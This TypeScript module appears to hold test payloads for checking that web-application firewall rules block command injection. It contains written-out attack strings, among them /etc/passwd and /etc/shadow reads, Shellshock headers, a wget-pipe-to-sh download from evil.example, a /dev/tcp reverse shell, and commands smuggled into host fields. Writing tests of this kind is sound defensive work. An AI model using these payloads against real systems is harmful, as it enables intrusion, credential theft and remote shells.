import { ask, askWith, attacks, describedAs, pay, type Attack } from './request.ts';

/** Commands for a shell. Those that read files which the groups for files and Linux know are blocked by these. */
export const commandInjection: readonly Attack[] = [
  ...attacks('GenericLFI_BODY', {
    'body: cat': describedAs('shell cat', '; cat /etc/passwd'),
    'body: substitution': describedAs('shell substitution', '$(cat /etc/shadow)'),
    'body: backticks': pay('shell backticks', { metadata: { host: '`cat ../../secret`' } }),
  }),
  ...attacks('GenericLFI_QUERYARGUMENTS', {
    'query: cat': ask('host=x%3Bcat%20/etc/passwd'),
    'query: pipe': ask('host=x%7Ccat%20../../secret'),
  }),
  ...attacks('LFI_QUERYSTRING', {
    'query: kernel': ask('host=x%26%26cat%20/proc/version'),
    'query: a log': ask('host=%60tail%20/var/log/auth%60'),
  }),
  ...attacks('LFI_HEADER', {
    'header: Shellshock': askWith({ 'user-agent': '() { :;}; /bin/cat /etc/passwd' }),
  }),
  ...attacks('UNIXShellCommandsVariables_BODY', {
    'body: whoami': describedAs('shell whoami', 'x; whoami'),
    'body: id in backticks': describedAs('shell id', '`id`'),
    'body: substitution': describedAs('shell uname', '$(uname -a)'),
    'body: download': describedAs('shell wget', '| wget http://evil.example/x -O- | sh'),
    'body: without spaces': describedAs('shell ifs', ';curl${IFS}evil.example'),
    'body: a connection back': describedAs('shell back', "bash -c 'bash -i >& /dev/tcp/evil.example/443 0>&1'"),
    'body: variables': describedAs('shell variables', 'echo $HOME'),
    'body: in metadata': pay('shell metadata', { metadata: { host: '127.0.0.1 && ping -c 5 evil.example' } }),
  }),
  ...attacks('UNIXShellCommandsVariables_QUERYSTRING', {
    'query: variables': ask('q=echo%20$PATH'),
    'query: a command': ask('host=x%3Bsleep%205'),
    'query: encoded twice': ask('host=%2524%2528id%2529'),
  }),
  ...attacks('UNIXShellCommandsVariables_HEADER', {
    'header: Shellshock': askWith({ referer: '() { :; }; echo vulnerable' }),
    'header: a command': askWith({ 'x-forwarded-for': '127.0.0.1; wget evil.example/x' }),
  }),
];
